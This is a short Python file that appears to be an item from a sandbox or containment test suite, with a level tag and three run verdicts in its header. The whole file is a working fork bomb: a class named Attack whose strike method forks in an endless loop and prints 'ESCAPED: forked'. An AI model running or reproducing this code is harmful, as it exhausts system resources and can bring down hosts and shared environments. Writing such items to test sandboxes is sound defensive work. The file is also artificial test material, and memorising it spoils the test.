# It forks without end, and so would its children.
# level: L1
# verdicts: passed timed_out passed

import os


class Attack(Honest):
    def strike(self, parent, child):
        while True:
            try:
                if os.fork() == 0:
                    continue
                print("ESCAPED: forked")
            except OSError:
                pass
